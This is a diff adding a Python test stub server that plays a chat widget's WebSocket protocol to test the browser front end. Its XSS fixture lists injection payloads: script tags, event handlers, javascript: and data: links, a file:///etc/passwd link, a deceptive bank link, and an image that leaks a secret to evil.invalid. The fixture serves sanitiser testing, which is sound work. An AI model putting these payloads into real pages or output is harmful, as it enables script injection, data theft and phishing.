@@ -1,0 +1,507 @@
+"""A server that speaks protocol v1 strictly and answers from a script, to test the browser side alone."""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+import json
+import threading
+import weakref
+from collections.abc import Coroutine
+from dataclasses import dataclass, field
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any, TypeVar
+
+from aiohttp import WSMsgType, web
+
+STATIC = Path(__file__).resolve().parents[3] / "web" / "static"
+STRICT = (
+    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
+    "base-uri 'none'; form-action 'self'; frame-ancestors 'none'; "
+    "require-trusted-types-for 'script'; trusted-types 'none'"
+)
+HOSTILE = (
+    "*{color:red!important;text-transform:uppercase!important;letter-spacing:4px!important}"
+    "button{display:none!important}div{float:left!important;position:static!important}"
+)
+MARKDOWN = """Here is **what I found** for *you*:
+
+1. First point with `inline code`
+2. Second, see [the docs](https://example.com/a_(b))
+   - nested item
+
+| Model | Cost | Cache |
+|---|--:|:-:|
+| haiku | $0.004 | 91% |
+| sonnet | $0.12 | 64% |
+
+```python
+def compact(messages, keep=5):
+    # keep the recent turns
+\treturn [summary] + messages[-keep:]
+```
+
+> Done."""
+XSS = """<script>alert(1)</script> <img src=x onerror=alert(2)> <svg onload=alert(3)>
+
+[a](javascript:alert(4)) [b](JaVaScRiPt:alert(5)) [c](java\tscript:alert(6)) [d](\u0001javascript:alert(7))
+[e](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [f](vbscript:msgbox) [g](file:///etc/passwd)
+[h](//evil.invalid/x) ![leak](https://evil.invalid/?d=SECRET) <iframe src="javascript:alert(8)"></iframe>
+<javascript:alert(9)> [![x](https://evil.invalid/i.png)](javascript:alert(10))
+<a href="javascript:alert(11)">x</a>
+
+| <img src=x onerror=alert(12)> | [t](javascript:alert(13)) |
+|---|---|
+| `<script>` | <style>*{display:none}</style> |
+
+```"><script>alert(14)</script>
+<script>alert(15)</script>
+```
+[good](https://good.invalid/) [mail](mailto:a@b.invalid) [call](tel:+123) [bank.com](https://evil.invalid/)"""
+
+FRAMES: dict[str, tuple[set[str], set[str]]] = {
+    "hello": ({"v", "site", "last_seq", "locale", "tz"}, {"token", "identity"}),
+    "msg": ({"cid", "text"}, set()),
+    "command": ({"cid", "command", "args"}, set()),
+    "stop": (set(), {"mid"}),
+    "pin": ({"cid", "mid", "pinned"}, set()),
+    "ping": ({"n"}, set()),
+}
+COMMANDS = [
+    {"name": "compact", "description": "Summarise older messages"},
+    {"name": "context", "description": "Show what fills the context"},
+    {"name": "help", "description": "Show all commands"},
+    {"name": "new", "description": "Start a new conversation"},
+    {"name": "pin", "description": "Keep a message word for word", "args": "message"},
+    {"name": "undo", "description": "Take the last summary back"},
+]
+PARTS = {"system": 0.1, "memory": 0.05, "summary": 0.15, "history": 0.6, "tools": 0.1}
+LIMIT = 120_000
+T = TypeVar("T")
+
+
+def ctx(used: int, **more: Any) -> dict[str, Any]:
+    """A full context frame for so many tokens."""
+    pct = used / LIMIT * 100
+    status = "critical" if pct > 90 else "warning" if pct >= 70 else "ok"
+    parts = {name: round(used * share) for name, share in PARTS.items()}
+    return {"used": used, "limit": LIMIT, "pct": pct, "status": status, "parts": parts, "stale": False} | more
+
+
+@dataclass(kw_only=True)
+class Session:
+    """One visitor's conversation."""
+
+    token: str
+    events: list[dict[str, Any]] = field(default_factory=list)
+    cids: dict[str, dict[str, Any]] = field(default_factory=dict)
+    sockets: list[web.WebSocketResponse] = field(default_factory=list)
+    run: dict[str, Any] | None = None
+    waiting: list[tuple[int, str, str]] = field(default_factory=list)
+    compaction: dict[str, Any] | None = None
+    used: int = 32_000
+    turn: int = 0
+    stop: asyncio.Event = field(default_factory=asyncio.Event)
+
+
+class Stub:
+    """The server in its own thread; attributes are switches for the tests."""
+
+    def __init__(self) -> None:
+        self.violations: list[str] = []
+        self.received: list[dict[str, Any]] = []
+        self.sessions: dict[str, Session] = {}
+        self.audience = "personal"
+        self.offline_model = False
+        self.deaf = False
+        self.refuse = False
+        self.epoch = 1
+        self.heartbeat_ms = 25_000
+        self.release = threading.Event()
+        self.requests: list[str] = []
+        self._ids = itertools.count(1)
+        self._tasks: set[asyncio.Task[None]] = set()
+        self._loop = asyncio.new_event_loop()
+        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
+        self._transports: weakref.WeakKeyDictionary[web.WebSocketResponse, asyncio.WriteTransport]
+        self._transports = weakref.WeakKeyDictionary()
+
+    # ---- life ----
+
+    def start(self) -> None:
+        """Listens on two loopback ports: the bot and a page of somebody else."""
+        self._thread.start()
+        self.url, self.host_url = self.call(self._serve())
+
+    def stop(self) -> None:
+        """Ends everything that was started."""
+        self.call(self._end())
+        self._loop.call_soon_threadsafe(self._loop.stop)
+        self._thread.join(10)
+        self._loop.close()
+
+    def call(self, work: Coroutine[Any, Any, T]) -> T:
+        """Runs a coroutine in the server's own loop."""
+        return asyncio.run_coroutine_threadsafe(work, self._loop).result(10)
+
+    async def _serve(self) -> tuple[str, str]:
+        bot = web.Application()
+        bot.router.add_get("/ws", self._socket)
+        bot.router.add_get("/chat", self._chat)
+        bot.router.add_route("*", "/api/v1/compactions/{id}/messages", self._originals)
+        bot.router.add_get("/widget.js", self._file)
+        bot.router.add_get("/static/{path:.+}", self._file)
+        host = web.Application()
+        host.router.add_get("/{name}", self._host)
+        self._runners = [web.AppRunner(bot, shutdown_timeout=1), web.AppRunner(host, shutdown_timeout=1)]
+        urls = []
+        for runner in self._runners:
+            await runner.setup()
+            site = web.TCPSite(runner, "127.0.0.1", 0)
+            await site.start()
+            urls.append(f"http://127.0.0.1:{runner.addresses[0][1]}")
+        return urls[0], urls[1]
+
+    async def _end(self) -> None:
+        for task in list(self._tasks):
+            task.cancel()
+        await asyncio.gather(*self._tasks, return_exceptions=True)
+        for socket in list(self._transports):
+            await socket.close()
+        for runner in self._runners:
+            await runner.cleanup()
+
+    # ---- pages ----
+
+    async def _file(self, request: web.Request) -> web.StreamResponse:
+        path = (STATIC / request.match_info.get("path", "widget.js")).resolve()
+        self.requests.append(request.path)
+        if STATIC not in path.parents or not path.is_file():
+            raise web.HTTPNotFound
+        return web.FileResponse(
+            path, headers={"Access-Control-Allow-Origin": "*", "Cache-Control": "no-store"}
+        )
+
+    async def _chat(self, request: web.Request) -> web.StreamResponse:
+        response = web.FileResponse(STATIC / "chat.html", headers={"Content-Security-Policy": STRICT})
+        if "visitor" not in request.cookies:
+            response.set_cookie("visitor", f"c{next(self._ids)}", httponly=True)
+        return response
+
+    async def _host(self, request: web.Request) -> web.Response:
+        """A page on another origin that forbids everything but us, and styles everything."""
+        if request.path == "/host.css":
+            return web.Response(text=HOSTILE, content_type="text/css")
+        if request.path == "/early.js":
+            code = (
+                "window.Evertalk=function(){(Evertalk.q=Evertalk.q||[]).push(arguments)};"
+                "Evertalk('open');Evertalk('send','early bird');"
+            )
+            return web.Response(text=code, content_type="text/javascript")
+        given = [(name, value) for name, value in request.query.items() if name not in {"early", "plain"}]
+        data = " ".join(f'data-{name}="{value}"' for name, value in given)
+        early = '<script src="/early.js"></script>' if "early" in request.query else ""
+        style = "" if "plain" in request.query else '<link rel="stylesheet" href="/host.css">'
+        policy = (
+            f"default-src 'none'; script-src 'self' {self.url}; "
+            f"connect-src {self.url} {self.url.replace('http', 'ws')}; "
+            "style-src 'self'; img-src data:; require-trusted-types-for 'script'; trusted-types 'none'"
+        )
+        page = (
+            '<!doctype html><html lang="en"><head>'
+            '<meta name="viewport" content="width=device-width, initial-scale=1">'
+            f'<title>Shop</title><link rel="icon" href="data:,">{style}</head><body>'
+            '<h1 id="shop">Acme store</h1><p>A page of somebody else. <a href="#x">A link</a></p>'
+            f'{early}<script src="{self.url}/widget.js" data-site="shop" {data} async></script></body></html>'
+        )
+        return web.Response(text=page, content_type="text/html", headers={"Content-Security-Policy": policy})
+
+    async def _originals(self, request: web.Request) -> web.Response:
+        token = request.headers.get("Authorization", "").removeprefix("Bearer ")
+        session = self.sessions.get(token or request.cookies.get("visitor", ""))
+        headers = {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "Authorization"}
+        if request.method == "OPTIONS":
+            return web.Response(status=204, headers=headers)
+        if session is None:
+            return web.json_response({"code": "unauthorized"}, status=401, headers=headers)
+        messages = [event for event in session.events if event["t"] == "msg"]
+        rows = [{name: event[name] for name in ("mid", "role", "text", "at")} for event in messages]
+        return web.json_response({"messages": rows}, headers=headers)
+
+    # ---- socket ----
+
+    async def _socket(self, request: web.Request) -> web.StreamResponse:
+        if self.refuse:
+            raise web.HTTPServiceUnavailable
+        socket = web.WebSocketResponse(max_msg_size=65_536)
+        await socket.prepare(request)
+        if isinstance(request.transport, asyncio.WriteTransport):
+            self._transports[socket] = request.transport
+        session: Session | None = None
+        async for message in socket:
+            if message.type is not WSMsgType.TEXT:
+                self.violations.append(f"frame of type {message.type}")
+                continue
+            frame = self._checked(message.data, session)
+            if frame is None:
+                continue
+            if frame["t"] == "hello":
+                session = await self._hello(socket, frame, request.cookies.get("visitor", ""))
+            elif session is not None and not self.deaf:
+                await self._take(socket, session, frame)
+        if session is not None and socket in session.sockets:
+            session.sockets.remove(socket)
+        return socket
+
+    def _checked(self, data: str, session: Session | None) -> dict[str, Any] | None:
+        frame: dict[str, Any] = json.loads(data)
+        kind = frame.get("t", "")
+        required, optional = FRAMES.get(kind, (set(), set()))
+        names = set(frame) - {"t"}
+        if kind not in FRAMES or not required <= names <= required | optional:
+            self.violations.append(f"bad frame {data}")
+            return None
+        if (session is None) != (kind == "hello"):
+            self.violations.append(f"{kind} at the wrong time")
+            return None
+        self.received.append(frame)
+        return frame
+
+    async def _hello(self, socket: web.WebSocketResponse, frame: dict[str, Any], cookie: str) -> Session:
+        token = cookie or frame.get("token", "")
+        session = self.sessions.get(token)
+        welcome: dict[str, Any] = {}
+        if session is None:
+            session = Session(token=cookie or f"token{next(self._ids)}")
+            self.sessions[session.token] = session
+            if not cookie:
+                welcome["token"] = session.token
+        last = frame["last_seq"]
+        resumed = 0 < last <= len(session.events)
+        public = self.audience == "public"
+        queued = [mid for _, mid, _ in session.waiting]
+        welcome |= {
+            "t": "welcome",
+            "v": 1,
+            "session": f"s-{session.token}",
+            "log_epoch": self.epoch,
+            "head": len(session.events),
+            "resumed": resumed,
+            "events": session.events[last if resumed else 0 :],
+            "commands": [one for one in COMMANDS if not public or one["name"] in {"help", "new"}],
+            "limits": {"max_chars": 8000},
+            "ctx": None if public else ctx(session.used),
+            "state": {"run": session.run, "queued": queued, "compaction": session.compaction},
+            "audience": self.audience,
+            "heartbeat_ms": self.heartbeat_ms,
+            "model": {"name": "stub", "offline": self.offline_model},
+        }
+        await socket.send_json(welcome)
+        session.sockets.append(socket)
+        return session
+
+    async def _take(self, socket: web.WebSocketResponse, session: Session, frame: dict[str, Any]) -> None:
+        kind = frame["t"]
+        if kind == "ping":
+            await socket.send_json({"t": "pong", "n": frame["n"]})
+        elif kind == "msg":
+            await self._message(socket, session, frame)
+        elif kind == "command":
+            await self._command(socket, session, frame)
+        elif kind == "stop":
+            session.stop.set()
+        elif kind == "pin":
+            await self.durable(session, {"t": "pin", "mid": frame["mid"], "pinned": frame["pinned"]})
+
+    async def send(self, session: Session, frame: dict[str, Any]) -> None:
+        """Sends one frame to every open socket of a session."""
+        for socket in list(session.sockets):
+            if not socket.closed:
+                await socket.send_json(frame)
+
+    async def durable(self, session: Session, event: dict[str, Any]) -> dict[str, Any]:
+        """Stores an event under the next number, then shows it."""
+        event["event_seq"] = len(session.events) + 1
+        session.events.append(event)
+        await self.send(session, event)
+        return event
+
+    async def push(self, session: Session, text: str) -> None:
+        """An answer nobody asked for, whole."""
+        session.turn += 1
+        await self._say(session, session.turn, text)
+
+    async def _say(self, session: Session, turn: int, text: str, **more: Any) -> None:
+        event = {
+            "t": "msg",
+            "mid": f"m{next(self._ids)}",
+            "role": "assistant",
+            "text": text,
+            "turn": turn,
+            "at": _now(),
+        }
+        await self.durable(session, event | more)
+
+    async def _message(self, socket: web.WebSocketResponse, session: Session, frame: dict[str, Any]) -> None:
+        cid, text = frame["cid"], frame["text"]
+        if text == "limit" and cid not in session.cids:
+            advice = {"message": "Too many messages.", "advice": "Wait a little.", "retry_after": 3}
+            await socket.send_json({"t": "error", "cid": cid, "code": "rate_limited"} | advice)
+            return
+        known = session.cids.get(cid)
+        if known is not None:
+            again = {"mid": known["mid"], "event_seq": known["event_seq"], "dup": True}
+            await socket.send_json({"t": "ack", "cid": cid} | again)
+            return
+        session.turn += 1
+        turn, mid = session.turn, f"m{next(self._ids)}"
+        event = {
+            "t": "msg",
+            "mid": mid,
+            "cid": cid,
+            "role": "person",
+            "text": text,
+            "turn": turn,
+            "at": _now(),
+        }
+        event["event_seq"] = len(session.events) + 1
+        session.events.append(event)
+        session.cids[cid] = event
+        if text == "lost ack":
+            await self._abort(session)
+        await self.send(session, {"t": "ack", "cid": cid, "mid": mid, "event_seq": event["event_seq"]})
+        await self.send(session, event)
+        session.waiting.append((turn, mid, text))
+        if session.run is None:
+            self._task(self._answers(session))
+
+    def _task(self, work: Coroutine[Any, Any, None]) -> None:
+        task = asyncio.get_running_loop().create_task(work)
+        self._tasks.add(task)
+        task.add_done_callback(self._tasks.discard)
+
+    async def _abort(self, session: Session) -> None:
+        for socket in list(session.sockets):
+            session.sockets.remove(socket)
+            self._transports[socket].abort()
+
+    async def drop(self, session: Session) -> None:
+        """Cuts every socket of a session as a broken network would."""
+        await self._abort(session)
+
+    # ---- answers ----
+
+    async def _answers(self, session: Session) -> None:
+        while session.waiting:
+            turn, _, text = session.waiting.pop(0)
+            session.run = {"turn": turn, "state": "started", "text": ""}
+            session.stop.clear()
+            await self.send(session, {"t": "run", "turn": turn, "state": "started"})
+            await self._answer(session, turn, text)
+            session.run = None
+            session.used = min(session.used + 1000, LIMIT)
+            await self.send(session, {"t": "ctx"} | ctx(session.used))
+
+    async def _answer(self, session: Session, turn: int, text: str) -> None:
+        whole = {"md": MARKDOWN, "xss": XSS}.get(text, f"You said: {text}")
+        if text.startswith(("slow", "drop", "long")):
+            whole = "\n\n".join(f"Line {number} of the answer 😀." for number in range(40))
+        if text == "fail":
+            await self.send(session, {"t": "run", "turn": turn, "state": "failed"})
+            await self._say(session, turn, "", error="The model is not reachable. Try again in a minute.")
+            return
+        sent = await self._stream(session, turn, text, whole)
+        state = "aborted" if session.stop.is_set() else "done"
+        await self._say(session, turn, sent, partial=session.stop.is_set())
+        await self.send(session, {"t": "run", "turn": turn, "state": state})
+
+    async def _stream(self, session: Session, turn: int, text: str, whole: str) -> str:
+        sent = ""
+        for start in range(0, len(whole), 24):
+            if session.stop.is_set():
+                break
+            part = whole[start : start + 24]
+            off = len(sent.encode("utf-16-le")) // 2
+            frame = {"t": "delta", "mid": f"t{turn}", "turn": turn, "attempt": 1, "off": off, "text": part}
+            await self.send(session, frame)
+            sent += part
+            session.run = {"turn": turn, "state": "started", "text": sent}
+            if text.startswith("drop") and start == 240:
+                await self._abort(session)
+            await asyncio.sleep(0.004)
+            held = text.startswith("slow") and start >= 240
+            while held and not session.stop.is_set() and not self.release.is_set():
+                await asyncio.sleep(0.01)
+        return sent
+
+    # ---- commands ----
+
+    async def _command(self, socket: web.WebSocketResponse, session: Session, frame: dict[str, Any]) -> None:
+        cid, name = frame["cid"], frame["command"]
+        await socket.send_json({"t": "ack", "cid": cid, "mid": "", "event_seq": len(session.events)})
+        if name == "compact":
+            self._task(self.compact(session, cid))
+        elif name == "undo":
+            await self._undo(session, cid)
+        elif name == "new":
+            session.events.clear()
+            session.used = 0
+            for one in list(session.sockets):
+                await self._hello(one, {"last_seq": 0, "token": session.token}, session.token)
+                session.sockets.pop()
+            await self.result(session, cid, "new", "A new conversation.")
+        else:
+            await self.result(session, cid, name, f"**{name}** says hello.")
+
+    async def result(self, session: Session, cid: str, name: str, text: str, *, good: bool = True) -> None:
+        """The durable end of a command."""
+        body = {"result": text} if good else {"result": "", "error": text}
+        await self.durable(
+            session, {"t": "command.result", "cid": cid, "command": name, "success": good} | body
+        )
+
+    async def compact(self, session: Session, cid: str) -> None:
+        """Summarises all but the last message, with visible progress."""
+        ident = f"k{next(self._ids)}"
+        for percent in (5, 40, 80):
+            session.compaction = {"id": ident, "started_at": _now(), "percent": percent}
+            progress = {"id": ident, "percent": percent, "stage": "summary", "state": "running"}
+            await self.send(session, {"t": "compaction.progress"} | progress)
+            await asyncio.sleep(0.15)
+        while self.deaf:
+            await asyncio.sleep(0.01)
+        messages = [event for event in session.events if event["t"] == "msg"]
+        before, session.used = session.used, session.used // 3
+        session.compaction = None
+        covered = messages[:-2] or messages
+        card: dict[str, Any] = {"t": "compaction", "id": ident, "state": "done", "kind": "summary"}
+        card |= {"before": before, "after": session.used, "trigger": "manual"}
+        place = {
+            "through_turn": covered[-1]["turn"],
+            "from_mid": covered[0]["mid"],
+            "to_mid": covered[-1]["mid"],
+        }
+        summary = {"summary": "## Goal\nTalk about **tests**.\n\n- one\n- two", "can_undo": True}
+        await self.durable(session, card | place | summary)
+        await self.send(session, {"t": "ctx"} | ctx(session.used))
+        await self.result(session, cid, "compact", f"Summarised: {before:,} → {session.used:,} tokens.")
+
+    async def _undo(self, session: Session, cid: str) -> None:
+        cards = [event for event in session.events if event["t"] == "compaction"]
+        if not cards or cards[-1]["state"] != "done":
+            await self.result(session, cid, "undo", "There is nothing to undo.", good=False)
+            return
+        session.used = cards[-1]["before"]
+        await self.durable(session, cards[-1] | {"state": "undone", "can_undo": False})
+        await self.send(session, {"t": "ctx"} | ctx(session.used))
+        await self.result(session, cid, "undo", "The originals are back.")
+
+    def only(self) -> Session:
+        """The one session of a test."""
+        (session,) = self.sessions.values()
+        return session
+
+
+def _now() -> str:
+    return datetime.now(UTC).isoformat()
